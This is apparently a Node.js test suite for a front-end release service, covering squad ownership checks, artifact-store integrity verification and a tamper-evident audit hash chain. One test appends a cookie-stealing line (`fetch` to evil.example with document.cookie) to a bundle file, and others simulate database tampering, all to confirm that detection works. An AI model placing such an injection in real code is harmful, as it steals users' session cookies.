// The release plane against a squad that reaches beyond what it owns, and against someone who edits the
// database behind the service's back: ownership, the audit chain.
import assert from 'node:assert/strict';
import { appendFileSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { verifyAuditChain } from '@gaido/release-core/audit-chain';
import { createReleaseClient } from '@gaido/release-core/client';
import { sql } from 'drizzle-orm';
import { fakeUpload, hostRecord, refusal, startService } from './harness.mjs';

let svc;
const client = (who) => createReleaseClient({ url: svc.url, token: who ? svc.tokens[who] : null });
const upload = fakeUpload;

before(async () => {
  svc = await startService();
  for (const env of ['production', 'staging', 'local']) await client('admin').deployHost(env, hostRecord());
});
after(() => svc.close());

describe('ownership', () => {
  it("refuses the tours squad's token publishing, pinning, promoting and rolling back the gems squad's remote, naming its owners", async () => {
    const gems = (who, label) =>
      client(who).publish('mfe_gems', upload({ remote: 'mfe_gems', label, exposes: [] }));
    const published = await refusal(gems('releaser', 'not-theirs'));
    assert.deepEqual([published.status, published.code], [403, 'not-owner']);
    assert.match(
      published.message,
      /rita@gaido\.test \(releaser\) may not publish mfe_gems: its owners are gems-squad \(release\/owners\.json\)/,
    );
    const v1 = (await gems('gems', 'owned-1')).release.version;
    const v2 = (await gems('gems', 'owned-2')).release.version;
    for (const version of [v1, v2]) {
      await client('gems').pin('staging', 'mfe_gems', {
        version,
        expectedRevision: await client().revisionOf('staging', 'mfe_gems'),
      });
    }
    const revision = await client().revisionOf('staging', 'mfe_gems');
    const attempts = {
      pin: () => client('releaser').pin('staging', 'mfe-gems', { version: v1, expectedRevision: revision }),
      'roll back': () => client('releaser').rollback('staging', 'mfe_gems', { expectedRevision: revision }),
      promote: () =>
        client('releaser').promote('local', 'mfe_gems', { from: 'staging', expectedRevision: 0 }),
    };
    for (const [doing, attempt] of Object.entries(attempts)) {
      const error = await refusal(attempt());
      assert.deepEqual([error.status, error.code], [403, 'not-owner'], doing);
      assert.match(error.message, new RegExp(`may not ${doing} mfe_gems: its owners are gems-squad`));
    }
    assert.equal((await client().remotesFile('staging')).remotes.mfe_gems.version, v2);
    assert.equal(
      (await client('admin').audit({ remote: 'mfe_gems' })).filter((e) => e.by === 'rita@gaido.test').length,
      0,
    );
    // Its own squad and a release-admin may.
    await client('gems').rollback('staging', 'mfe_gems', { expectedRevision: revision });
    await client('admin').promote('local', 'mfe_gems', { from: 'staging', expectedRevision: 0 });
    assert.equal((await client().remotesFile('local')).remotes.mfe_gems.version, v1);
  });

  it("refuses a squad's token recording the host of an environment: the host belongs to the platform group", async () => {
    const error = await refusal(client('gems').deployHost('staging', hostRecord({ commit: 'made-up' })));
    assert.deepEqual([error.status, error.code], [403, 'not-owner']);
    assert.match(error.message, /gus@gaido\.test \(releaser\) may not record host: its owners are platform/);
    assert.equal((await client().host('staging')).record.commit, 'abc123');
  });
});

describe('the store proves itself', () => {
  it('names a deleted chunk and an altered entry file in verify and status, and republishing the identical build restores them', async () => {
    const body = upload({ remote: 'mfe_onboarding', label: 'store', exposes: [] });
    const { release } = await client('releaser').publish('mfe_onboarding', body);
    await client('releaser').pin('staging', 'mfe_onboarding', {
      version: release.version,
      expectedRevision: await client().revisionOf('staging', 'mfe_onboarding'),
    });
    const mine = async () =>
      (await client('releaser').verifyStore({ environments: ['staging'] })).find(
        (version) => version.remote === 'mfe_onboarding',
      );
    assert.deepEqual([(await mine()).ok, (await mine()).files], [true, Object.keys(release.files).length]);

    const dir = join(svc.artifactsDir, 'mfe_onboarding', release.version);
    rmSync(join(dir, 'static', 'js', 'page.js'));
    appendFileSync(join(dir, 'remoteEntry.js'), ';fetch("https://evil.example/?" + document.cookie);');
    const damaged = await mine();
    assert.deepEqual(
      [damaged.ok, damaged.missing, damaged.altered, damaged.environments],
      [false, ['static/js/page.js'], ['remoteEntry.js'], ['staging']],
    );
    const row = (await client('releaser').status({ environments: ['staging'] })).find(
      (r) => r.remote === 'mfe_onboarding',
    );
    assert.deepEqual(
      [row.store.ok, row.store.missing, row.store.altered],
      [false, ['static/js/page.js'], ['remoteEntry.js']],
    );

    const again = await client('releaser').publish('mfe_onboarding', body);
    assert.deepEqual(
      [again.created, again.restored.sort()],
      [false, ['remoteEntry.js', 'static/js/page.js']],
    );
    assert.equal((await mine()).ok, true);
    assert.ok(existsSync(join(dir, 'static', 'js', 'page.js')));
    const [entry] = (await client('admin').audit({ remote: 'mfe_onboarding' })).slice(-1);
    assert.deepEqual(
      [entry.action, entry.by, entry.missing, entry.altered],
      ['repair', 'rita@gaido.test', ['static/js/page.js'], ['remoteEntry.js']],
    );
    const unchanged = await client('releaser').publish('mfe_onboarding', body);
    assert.deepEqual(unchanged.restored, []);
  });

  it("names a store whose record of a version's files was rewritten, which is what the CDN serves by", async () => {
    const { release } = await client('releaser').publish(
      'mfe_onboarding',
      upload({ remote: 'mfe_onboarding', label: 'record', exposes: [] }),
    );
    const file = join(svc.artifactsDir, 'mfe_onboarding', release.version, '.record.json');
    const record = JSON.parse(readFileSync(file, 'utf8'));
    record.files['remoteEntry.js'] = `sha384-${'A'.repeat(64)}`;
    writeFileSync(file, JSON.stringify(record));
    const [checked] = await client('releaser').verifyStore({
      remote: 'mfe_onboarding',
      version: release.version,
    });
    assert.deepEqual(
      [checked.ok, checked.record, checked.missing, checked.altered],
      [false, 'altered', [], []],
    );
  });
});

describe('the audit chain', () => {
  /** The chain as the service has it now, checked on this side. */
  const check = async () => verifyAuditChain(await client('admin').auditChain());
  /** Someone with the database's password: the append-only trigger is theirs to switch off. */
  async function tamper(statement) {
    await svc.db.execute(sql`ALTER TABLE audit DISABLE TRIGGER audit_append_only`);
    try {
      await svc.db.execute(statement);
    } finally {
      await svc.db.execute(sql`ALTER TABLE audit ENABLE TRIGGER audit_append_only`);
    }
  }
  const ids = async () =>
    (await client('admin').auditChain()).filter((entry) => entry.action === 'pin').map((entry) => entry.id);

  it('links every entry to the one before, and the untouched log checks out', async () => {
    const verdict = await check();
    assert.equal(verdict.ok, true, verdict.problems.join('\n'));
    assert.ok(verdict.chained >= 8, `${verdict.chained} chained entries`);
    assert.equal(verdict.chained, verdict.entries);
    assert.match(verdict.head, /^[0-9a-f]{64}$/);
  });

  it('names an entry edited in the database', async () => {
    const [id] = await ids();
    const { actor } = (await client('admin').auditChain()).find((entry) => entry.id === id);
    await tamper(sql`UPDATE audit SET actor = 'someone-else@gaido.test' WHERE id = ${id}`);
    const verdict = await check();
    assert.equal(verdict.ok, false);
    assert.deepEqual(
      verdict.problems.filter((problem) => problem.includes(`#${id} `)),
      [
        `entry #${id} (pin by someone-else@gaido.test at ${(await client('admin').auditChain()).find((e) => e.id === id).at}) was changed after it was written: its content does not match its hash`,
      ],
    );
    await tamper(sql`UPDATE audit SET actor = ${actor} WHERE id = ${id}`);
    assert.equal((await check()).ok, true);
  });

  it('names the entry after one deleted, and entries swapped', async () => {
    const head = (await check()).head;
    const [, first, second, , third] = (await client('admin').auditChain()).map((entry) => entry.id);
    // Two entries' contents swapped, links and all, as a reordering would leave them.
    const columns = sql.raw(
      'at, account_id, actor, action, environment, remote, version, details, prev_hash, hash',
    );
    await tamper(
      sql`CREATE TEMP TABLE swap AS SELECT id, ${columns} FROM audit WHERE id IN (${first}, ${second})`,
    );
    await tamper(
      sql`UPDATE audit a SET (${columns}) = (SELECT ${columns} FROM swap s WHERE s.id = ${second}) WHERE a.id = ${first}`,
    );
    await tamper(
      sql`UPDATE audit a SET (${columns}) = (SELECT ${columns} FROM swap s WHERE s.id = ${first}) WHERE a.id = ${second}`,
    );
    const reordered = await check();
    assert.equal(reordered.ok, false);
    assert.ok(
      reordered.problems.some(
        (problem) => problem.startsWith(`entry #${first} `) && problem.includes('does not follow'),
      ),
      reordered.problems.join('\n'),
    );
    await tamper(sql`DELETE FROM audit WHERE id = ${third}`);
    const deleted = await check();
    const next = (await client('admin').auditChain()).find((entry) => Number(entry.id) > Number(third));
    assert.ok(
      deleted.problems.some(
        (problem) =>
          problem.startsWith(`entry #${next.id} `) && problem.includes('an entry between them was deleted'),
      ),
      deleted.problems.join('\n'),
    );
    // Whoever kept an earlier head sees a log rewritten after it.
    assert.equal(verifyAuditChain(await client('admin').auditChain(), { head }).ok, false);
  });

  it('is written by one function only (src/audit.mjs), so no entry escapes the chain', () => {
    const dir = new URL('../src/', import.meta.url);
    const writers = readdirSync(dir).filter((file) =>
      /INSERT INTO audit\b/i.test(readFileSync(new URL(file, dir), 'utf8')),
    );
    assert.deepEqual(writers, ['audit.mjs']);
  });
});
